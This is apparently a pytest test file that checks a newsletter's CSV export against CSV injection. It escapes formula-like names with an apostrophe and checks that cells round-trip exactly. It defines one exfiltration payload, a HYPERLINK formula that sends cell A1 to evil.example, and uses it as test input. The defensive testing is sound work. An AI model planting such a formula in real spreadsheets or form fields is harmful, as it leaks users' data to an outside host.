"""A CSV export is safe to open in a spreadsheet (OWASP CSV injection), and reads back exactly.

A name typed into the public form that a spreadsheet would run as a formula is written as text
(a `'` in front); JSON keeps the name as typed. For any text, writing and reading a cell gives it
back unchanged, and no written cell begins like a formula.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import httpx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from newsletter.readers import csv_format
from tests.support.readers import link_in, sign_up
from tests.support.servers import Site

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'


def test_a_formula_typed_into_the_form_is_exported_as_text(site: Site, tmp_path: Path) -> None:
    sign_up(site, "anna@example.com", FORMULA)
    httpx.post(link_in(site.wait_for_mail(1)[0], f"{site.url}/bevestig/"))
    site.cli("subscribers", "add", "--consent", "@list -2+3", "--", "-eva@example.com")
    out = tmp_path / "export.csv"
    site.cli("subscribers", "export", "--format", "csv", "-o", str(out))
    raw = out.read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(raw)))
    for row in rows:
        for cell in row:
            assert not cell.startswith(csv_format.FORMULA_START), cell
    assert "\"'" + FORMULA.replace('"', '""') + '"' in raw  # quoted, with the ' in front
    by_email = {row[0]: row for row in rows[1:]}
    assert by_email["anna@example.com"][1] == "'" + FORMULA
    assert by_email["'-eva@example.com"][7] == "'@list -2+3"
    # JSON is data for programs, not a spreadsheet: unchanged.
    data = json.loads(site.cli("subscribers", "export").stdout)
    assert data["subscribers"][0]["name"] == FORMULA


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=40))
def test_any_cell_reads_back_exactly_and_never_starts_like_a_formula(value: str) -> None:
    written = csv_format.safe_cell(value)
    assert not written.startswith(csv_format.FORMULA_START)
    assert csv_format.plain_cell(written) == value


# Cells on one line, as every stored value is (names and bases are single lines).
ONE_LINE = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00\n"))


@settings(max_examples=60, deadline=None)
@given(names=st.lists(ONE_LINE, min_size=1, max_size=4))
def test_a_written_file_reads_back_row_for_row(
    tmp_path_factory: pytest.TempPathFactory, names: list[str]
) -> None:
    records = [
        {**dict.fromkeys(csv_format.COLUMNS[:-1], ""), "email": f"r{i}@example.com",
         "name": name, "consent_log": []}
        for i, name in enumerate(names)
    ]  # fmt: skip
    buffer = io.StringIO(newline="")
    csv_format.write(buffer, records)
    path = tmp_path_factory.mktemp("csv") / "x.csv"
    path.write_text(buffer.getvalue(), encoding="utf-8", newline="")
    rows = list(csv_format.read(path))
    assert [r.problem for r in rows] == [None] * len(names)
    assert [r.cells["name"] for r in rows] == names
